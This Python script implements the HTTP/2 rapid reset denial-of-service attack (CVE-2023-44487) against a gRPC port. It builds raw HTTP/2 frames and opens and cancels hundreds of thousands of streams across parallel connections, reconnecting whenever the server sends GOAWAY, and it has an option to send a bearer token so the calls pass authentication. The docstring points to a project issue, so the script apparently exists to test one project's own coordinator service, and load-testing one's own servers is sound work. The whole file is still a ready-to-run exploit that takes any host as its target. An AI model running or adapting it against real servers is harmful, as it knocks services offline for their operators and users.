#!/usr/bin/env python3
"""HTTP/2 rapid reset against a gRPC port (CVE-2023-44487's pattern): each connection opens streams (HEADERS of a
gRPC call) and cancels each at once (RST_STREAM CANCEL), as fast as the socket takes them, reconnecting when the
server sends GOAWAY or closes. Frames are written by hand (no HTTP/2 library): the point is what the server keeps.

    rapid_reset.py HOST:PORT --streams 800000 [--connections 4] [--token TOKEN] [--per-connection N]

Prints the streams sent, connections made and GOAWAYs received. With --token the calls carry the coordinator's
bearer token (a client that has it); without, they are refused and the coordinator closes the connection after the
first one (issue 29, item 9).
"""

from __future__ import annotations

import argparse
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """An HPACK literal header field without indexing, new name, no Huffman coding (RFC 7541, 6.2.2)."""
    def string(text: str) -> bytes:
        data = text.encode()
        assert len(data) < 127
        return bytes([len(data)]) + data
    return b"\x00" + string(name) + string(value)


def header_block(token: str | None) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", "/handoff.v1.Coordinator/ListWorkers"),
              (":authority", "coordinator"), ("content-type", "application/grpc"), ("te", "trailers")]
    if token:
        fields.append(("authorization", f"Bearer {token}"))
    return b"".join(literal(name, value) for name, value in fields)


class Counters:
    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.streams = 0
        self.connections = 0
        self.goaways = 0


def read_frames(sock: socket.socket, counters: Counters, closed: threading.Event) -> None:
    """Answers the server's SETTINGS and PINGs; notes GOAWAY; returns when the connection ends."""
    buffer = b""
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                break
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags = buffer[3], buffer[4]
                payload = buffer[9:9 + length]
                buffer = buffer[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    sock.sendall(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    sock.sendall(frame(PING, ACK, 0, payload))
                elif kind == GOAWAY:
                    with counters.lock:
                        counters.goaways += 1
                    closed.set()
    except OSError:
        pass
    closed.set()


def attack(target: tuple[str, int], streams: int, token: str | None, counters: Counters,
           per_connection: int) -> None:
    block = header_block(token)
    sent = 0
    while sent < streams:
        on_this_connection = 0
        sock = socket.create_connection(target)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        closed = threading.Event()
        with counters.lock:
            counters.connections += 1
        reader = threading.Thread(target=read_frames, args=(sock, counters, closed), daemon=True)
        reader.start()
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            stream = 1
            while (sent < streams and not closed.is_set() and stream < 2**31 - 1
                   and (not per_connection or on_this_connection < per_connection)):
                batch = b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block)
                                 + frame(RST_STREAM, 0, stream + 2 * i, struct.pack(">I", CANCEL))
                                 for i in range(100))
                sock.sendall(batch)
                stream += 200
                sent += 100
                on_this_connection += 100
                with counters.lock:
                    counters.streams += 100
        except OSError:
            pass
        finally:
            sock.close()
            reader.join(timeout=5)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("target", help="HOST:PORT of the gRPC port")
    parser.add_argument("--streams", type=int, default=800_000)
    parser.add_argument("--connections", type=int, default=4, help="attacking connections at once")
    parser.add_argument("--token", help="the bearer token, for calls that pass authentication")
    parser.add_argument("--per-connection", type=int, default=0,
                        help="streams on one connection before the client closes it (0: until the server does)")
    arguments = parser.parse_args()
    host, _, port = arguments.target.rpartition(":")
    counters = Counters()
    started = time.monotonic()
    share = arguments.streams // arguments.connections
    threads = [threading.Thread(target=attack, args=((host, int(port)), share, arguments.token, counters,
                                                   arguments.per_connection))
               for _ in range(arguments.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    elapsed = time.monotonic() - started
    print(f"streams={counters.streams} connections={counters.connections} goaways={counters.goaways} "
          f"seconds={elapsed:.1f} streams_per_second={counters.streams / elapsed:.0f}")


if __name__ == "__main__":
    main()
